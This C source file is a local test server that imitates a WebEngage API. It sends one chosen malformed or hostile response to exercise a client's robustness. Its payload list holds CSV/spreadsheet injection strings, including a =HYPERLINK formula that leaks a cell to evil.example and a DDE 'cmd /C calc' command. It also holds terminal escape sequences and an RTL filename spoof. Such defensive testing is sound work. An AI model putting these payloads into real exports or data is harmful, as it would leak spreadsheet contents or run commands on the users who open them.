/*
 * hostile.c: a hostile WebEngage server for the tests. It speaks just
 * enough of docs/api.md for wegauged to pull from it (the probe, stats,
 * the six campaign lists, active users, team) and, in one place chosen by
 * --mode, sends what a broken or malicious server could send. Every other
 * answer is small and valid, so the pull's other streams commit. It is
 * not wesim (sim/ is the faithful simulator): no keys are checked, no
 * rate limits, no faults but the mode's. Plain HTTP on 127.0.0.1 only.
 *
 * usage: hostile --mode MODE [--port N] [--port-file F] [--rows N]
 *                [--page-rows N] [--quiet]
 *
 *   --port N       TCP port on 127.0.0.1, 0 (the default) picks a free one
 *   --port-file F  write the port to F (through F.tmp and a rename) once
 *                  listening
 *   --rows N       huge-stream: team members in all (default 2000000)
 *   --page-rows N  huge-stream: members per team page (default 100000)
 *   --quiet        no line per request on stderr
 *
 * Modes (where the attack is; everything else is the plain answer):
 *   plain          nothing hostile: one row or so per stream
 *   endless-pages  push-notifications: every page says numberOfPages
 *                  1000000 and lists 1,800 campaigns whose title, status
 *                  and category are 4,096-byte strings (about 22 MB a page,
 *                  under the default max_response)
 *   empty-objects  stats: data is 30 MiB of {},{},... (10.5 million empty
 *                  objects) inside a valid envelope
 *   huge-stream    team: --rows members over pages of --page-rows (the
 *                  last page may be shorter), about 30 bytes each
 *   control-chars  campaign titles and team names, emails and roles hold
 *                  ESC sequences, backspace, U+202E, U+200B, and spreadsheet
 *                  formulas (=HYPERLINK(...), @SUM(...), +ADMIN, -1+1)
 *   int64-max      stats: EMAIL deliveries 9223372036854775807 on yesterday
 *                  and today (UTC), so any sum of them overflows
 *   bad-json-esc   stats: a body that is not JSON: a raw ESC (starting
 *                  "ESC [2J ESC ]0;owned BEL") where a metric's value
 *                  belongs, so the parser's error quotes the raw ESC
 *
 * Signals: SIGTERM and SIGINT stop it (exit 0). Exit 2: bad command line;
 * 1: cannot listen.
 */
#include <arpa/inet.h>
#include <event2/buffer.h>
#include <event2/event.h>
#include <event2/http.h>
#include <event2/keyvalq_struct.h>
#include <getopt.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum mode { M_PLAIN, M_ENDLESS, M_EMPTY, M_HUGE, M_CTRL, M_INT64, M_BADESC };
static const char *const mode_names[] = {"plain",       "endless-pages", "empty-objects",
                                         "huge-stream", "control-chars", "int64-max",
                                         "bad-json-esc"};

#define ENDLESS_CAMPAIGNS 1800
#define LONG_STRING       4096 /* docs/api.md's longest string (WEAPI_MAX_STRING) */
#define EMPTY_BYTES       (30u << 20)

static enum mode mode;
static long long total_rows = 2000000, page_rows = 100000;
static bool quiet;
static char *canned; /* endless-pages: the contents of a page; empty-objects: the data */
static size_t canned_len;

static const char *const channel_paths[] = {"push-notifications", "in-app-notifications",
                                            "sms-messages",       "email-messages",
                                            "web-push",           "whatsapp-messages"};

/* Strings a spreadsheet or a terminal would act on (JSON-escaped as sent). */
static const char *const evil[] = {
        "=HYPERLINK(\\\"http://evil.example/?leak=\\\"&A1,\\\"Click me\\\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+ADMIN",
        "-1+1",
        "\\u001b[31mred\\u001b[0m \\u001b]0;owned\\u0007title",
        "back\\b\\b\\bspace",
        "\\u202egnp.exe",
        "zero\\u200bwidth\\u200b",
};
#define N_EVIL (sizeof(evil) / sizeof(evil[0]))

/* "YYYY-MM-DD" of today (UTC) minus days_back. */
static void utc_day(int days_back, char out[11])
{
	time_t t = time(NULL) - (time_t)days_back * 86400;
	struct tm tm;
	gmtime_r(&t, &tm);
	strftime(out, 11, "%Y-%m-%d", &tm);
}

static void send_json(struct evhttp_request *req, int code, struct evbuffer *b)
{
	evhttp_add_header(evhttp_request_get_output_headers(req), "Content-Type",
	                  "application/json");
	if (!quiet)
		fprintf(stderr, "hostile: %s -> %d (%zu bytes)\n", evhttp_request_get_uri(req),
		        code, evbuffer_get_length(b));
	evhttp_send_reply(req, code, code == 200 ? "OK" : "Not Found", b);
}

static void ok_head(struct evbuffer *b)
{
	evbuffer_add_printf(b, "{\"response\":{\"status\":\"success\",\"message\":\"success\","
	                       "\"data\":");
}

static void stats(struct evbuffer *b)
{
	char d0[11], d1[11];
	utc_day(0, d0);
	utc_day(1, d1);
	if (mode == M_BADESC) {
		/*
		 * A raw ESC where a value belongs: jansson stops at it with
		 * "invalid token near '<ESC>'", the raw byte in its message.
		 */
		ok_head(b);
		evbuffer_add_printf(b,
		                    "[{\"date\":\"%s\",\"dimensions\":[{\"value\":\"EMAIL\","
		                    "\"metrics\":[{\"name\":\"users\",\"value\":\033[2J\033]0;"
		                    "owned\007}]}]}]}}",
		                    d0);
		return;
	}
	ok_head(b);
	if (mode == M_EMPTY) {
		evbuffer_add(b, "[", 1);
		evbuffer_add_reference(b, canned, canned_len, NULL, NULL);
		evbuffer_add_printf(b, "]}}");
	} else if (mode == M_INT64) {
		evbuffer_add_printf(b, "[");
		for (int i = 0; i < 2; i++)
			evbuffer_add_printf(
			        b,
			        "%s{\"date\":\"%s\",\"dimensions\":[{\"value\":\"EMAIL\","
			        "\"metrics\":[{\"name\":\"deliveries\",\"value\":%" PRId64 "}]}]}",
			        i ? "," : "", i ? d0 : d1, INT64_MAX);
		evbuffer_add_printf(b, "]}}");
	} else {
		evbuffer_add_printf(
		        b,
		        "[{\"date\":\"%s\",\"dimensions\":[{\"value\":\"PUSH_NOTIFICATION\","
		        "\"metrics\":[{\"name\":\"users\",\"value\":10},{\"name\":"
		        "\"deliveries\",\"value\":20}]}]}]}}",
		        d0);
	}
}

static void campaigns(struct evbuffer *b, int channel, long long page)
{
	ok_head(b);
	if (mode == M_ENDLESS && channel == 0) {
		evbuffer_add_printf(b,
		                    "{\"pageNo\":%lld,\"pageSize\":%d,\"numberOfPages\":1000000,"
		                    "\"contents\":[",
		                    page, ENDLESS_CAMPAIGNS);
		evbuffer_add_reference(b, canned, canned_len, NULL, NULL);
		evbuffer_add_printf(b, "]}}}");
		return;
	}
	evbuffer_add_printf(b, "{\"pageNo\":1,\"pageSize\":100,\"numberOfPages\":1,\"contents\":[");
	if (mode == M_CTRL) {
		for (size_t i = 0; i < N_EVIL; i++)
			evbuffer_add_printf(b,
			                    "%s{\"id\":\"~evil%zu\",\"title\":\"%s\",\"status\":"
			                    "\"RUNNING\",\"stats\":{\"sent\":1}}",
			                    i ? "," : "", i, evil[i]);
	} else {
		evbuffer_add_printf(b,
		                    "{\"id\":\"~c%d\",\"title\":\"Campaign %d\",\"status\":"
		                    "\"RUNNING\",\"stats\":{\"sent\":100,\"delivered\":90}}",
		                    channel, channel);
	}
	evbuffer_add_printf(b, "]}}}");
}

static void active(struct evbuffer *b)
{
	char d0[11];
	utc_day(0, d0);
	ok_head(b);
	evbuffer_add_printf(b, "{\"DAU\":[{\"name\":\"android\",\"stats\":[{\"%s\":5}]}]}}}", d0);
}

static void team(struct evbuffer *b, long long page)
{
	ok_head(b);
	if (mode == M_HUGE) {
		long long pages = (total_rows + page_rows - 1) / page_rows;
		long long first = (page - 1) * page_rows, end = first + page_rows;
		if (end > total_rows)
			end = total_rows;
		evbuffer_add_printf(b, "{\"pageNo\":%lld,\"numberOfPages\":%lld,\"contents\":[",
		                    page, pages);
		for (long long i = first; i < end; i++)
			evbuffer_add_printf(b, "%s{\"email\":\"m%08lld@x.example\"}",
			                    i > first ? "," : "", i);
	} else if (mode == M_CTRL) {
		evbuffer_add_printf(b, "{\"pageNo\":1,\"numberOfPages\":1,\"contents\":[");
		for (size_t i = 0; i < N_EVIL; i++)
			evbuffer_add_printf(
			        b,
			        "%s{\"email\":\"%s@x.example\",\"name\":\"%s\",\"role\":"
			        "\"%s\",\"status\":\"ACTIVE\"}",
			        i ? "," : "", evil[i], evil[(i + 1) % N_EVIL],
			        evil[(i + 2) % N_EVIL]);
	} else {
		evbuffer_add_printf(b, "{\"pageNo\":1,\"numberOfPages\":1,\"contents\":["
		                       "{\"email\":\"ana@example.com\",\"name\":\"Ana\",\"role\":"
		                       "\"ADMIN\",\"status\":\"ACTIVE\"}");
	}
	evbuffer_add_printf(b, "]}}}");
}

/* pageNo of the query, 1 when absent or not a number. */
static long long page_of(struct evhttp_request *req)
{
	const char *q = evhttp_uri_get_query(evhttp_request_get_evhttp_uri(req));
	struct evkeyvalq kv;
	long long page = 1;
	if (q && evhttp_parse_query_str(q, &kv) == 0) {
		const char *v = evhttp_find_header(&kv, "pageNo");
		if (v && atoll(v) > 0)
			page = atoll(v);
		evhttp_clear_headers(&kv);
	}
	return page;
}

static bool ends_with(const char *s, const char *tail)
{
	size_t n = strlen(s), k = strlen(tail);
	return n >= k && strcmp(s + n - k, tail) == 0;
}

static void on_request(struct evhttp_request *req, void *arg)
{
	(void)arg;
	const char *path = evhttp_uri_get_path(evhttp_request_get_evhttp_uri(req));
	struct evbuffer *b = evbuffer_new();
	if (!b) {
		evhttp_send_error(req, 500, "out of memory");
		return;
	}
	int code = 200;
	if (!path) {
		code = 404;
	} else if (strstr(path, "/survey/response/")) {
		code = 404; /* docs/api.md: the probe's 404 accepts the key */
	} else if (ends_with(path, "/stats")) {
		stats(b);
	} else if (ends_with(path, "/publisher-metrics")) {
		active(b);
	} else if (ends_with(path, "/team-members")) {
		team(b, page_of(req));
	} else {
		code = 404;
		for (int c = 0; c < 6; c++) {
			const char *slash = strrchr(path, '/');
			if (slash && strcmp(slash + 1, channel_paths[c]) == 0) {
				campaigns(b, c, page_of(req));
				code = 200;
			}
		}
	}
	if (code == 404)
		evbuffer_add_printf(b, "{\"response\":{\"status\":\"error\",\"message\":\"not "
		                       "found\"}}");
	send_json(req, code, b);
	evbuffer_free(b);
}

/* The mode's large, fixed part, built once: every answer refers to it. */
static int build_canned(void)
{
	if (mode == M_EMPTY) {
		canned_len = EMPTY_BYTES / 3 * 3 - 1;
		canned = malloc(canned_len);
		if (!canned)
			return -1;
		for (size_t i = 0; i < canned_len; i += 3)
			memcpy(canned + i, i + 2 < canned_len ? "{}," : "{}",
			       i + 2 < canned_len ? 3 : 2);
	} else if (mode == M_ENDLESS) {
		size_t one = 3 * LONG_STRING + 96;
		canned = malloc(one * ENDLESS_CAMPAIGNS);
		if (!canned)
			return -1;
		char s[LONG_STRING + 1];
		for (int i = 0; i < ENDLESS_CAMPAIGNS; i++) {
			size_t o = canned_len;
			o += (size_t)sprintf(canned + o, "%s{\"id\":\"~e%05d\"", i ? "," : "", i);
			const char *keys[] = {"title", "status", "category"};
			for (int k = 0; k < 3; k++) {
				memset(s, 'A' + k, LONG_STRING);
				s[LONG_STRING] = '\0';
				o += (size_t)sprintf(canned + o, ",\"%s\":\"%s\"", keys[k], s);
			}
			canned[o++] = '}';
			canned_len = o;
		}
	}
	return 0;
}

static void on_signal(evutil_socket_t sig, short what, void *arg)
{
	(void)sig;
	(void)what;
	event_base_loopexit(arg, NULL);
}

static int write_port_file(const char *path, int port)
{
	char tmp[4096];
	snprintf(tmp, sizeof(tmp), "%s.tmp", path);
	FILE *f = fopen(tmp, "w");
	if (!f)
		return -1;
	fprintf(f, "%d\n", port);
	if (fclose(f) != 0)
		return -1;
	return rename(tmp, path);
}

int main(int argc, char **argv)
{
	static const struct option opts[] = {{"mode", required_argument, NULL, 'm'},
	                                     {"port", required_argument, NULL, 'p'},
	                                     {"port-file", required_argument, NULL, 'f'},
	                                     {"rows", required_argument, NULL, 'r'},
	                                     {"page-rows", required_argument, NULL, 'g'},
	                                     {"quiet", no_argument, NULL, 'q'},
	                                     {NULL, 0, NULL, 0}};
	const char *port_file = NULL;
	int port = 0, opt;
	bool have_mode = false;
	while ((opt = getopt_long(argc, argv, "", opts, NULL)) != -1) {
		switch (opt) {
		case 'm':
			for (size_t i = 0; i < sizeof(mode_names) / sizeof(mode_names[0]); i++)
				if (strcmp(optarg, mode_names[i]) == 0) {
					mode = (enum mode)i;
					have_mode = true;
				}
			break;
		case 'p':
			port = atoi(optarg);
			break;
		case 'f':
			port_file = optarg;
			break;
		case 'r':
			total_rows = atoll(optarg);
			break;
		case 'g':
			page_rows = atoll(optarg);
			break;
		case 'q':
			quiet = true;
			break;
		default:
			have_mode = false;
			optind = argc + 1;
		}
	}
	if (!have_mode || optind != argc || port < 0 || port > 65535 || total_rows < 0 ||
	    page_rows < 1) {
		fprintf(stderr, "usage: hostile --mode plain|endless-pages|empty-objects|"
		                "huge-stream|control-chars|int64-max|bad-json-esc\n"
		                "               [--port N] [--port-file F] [--rows N] "
		                "[--page-rows N] [--quiet]\n");
		return 2;
	}
	if (build_canned() != 0) {
		fprintf(stderr, "hostile: out of memory\n");
		return 1;
	}
	struct event_base *base = event_base_new();
	struct evhttp *http = base ? evhttp_new(base) : NULL;
	if (!http) {
		fprintf(stderr, "hostile: cannot start libevent\n");
		return 1;
	}
	evhttp_set_allowed_methods(http, EVHTTP_REQ_GET | EVHTTP_REQ_POST | EVHTTP_REQ_HEAD);
	evhttp_set_timeout(http, 120);
	evhttp_set_gencb(http, on_request, NULL);
	struct evhttp_bound_socket *bs =
	        evhttp_bind_socket_with_handle(http, "127.0.0.1", (ev_uint16_t)port);
	if (!bs) {
		fprintf(stderr, "hostile: cannot listen on 127.0.0.1:%d\n", port);
		return 1;
	}
	struct sockaddr_in sin;
	socklen_t slen = sizeof(sin);
	if (getsockname(evhttp_bound_socket_get_fd(bs), (struct sockaddr *)&sin, &slen) != 0)
		return 1;
	port = ntohs(sin.sin_port);
	if (port_file && write_port_file(port_file, port) != 0) {
		fprintf(stderr, "hostile: cannot write %s\n", port_file);
		return 1;
	}
	struct event *sigterm = evsignal_new(base, SIGTERM, on_signal, base);
	struct event *sigint = evsignal_new(base, SIGINT, on_signal, base);
	if (!sigterm || !sigint || event_add(sigterm, NULL) != 0 || event_add(sigint, NULL) != 0)
		return 1;
	signal(SIGPIPE, SIG_IGN);
	if (!quiet)
		fprintf(stderr, "hostile: %s on 127.0.0.1:%d\n", mode_names[mode], port);
	event_base_dispatch(base);
	event_free(sigterm);
	event_free(sigint);
	evhttp_free(http);
	event_base_free(base);
	free(canned);
	return 0;
}
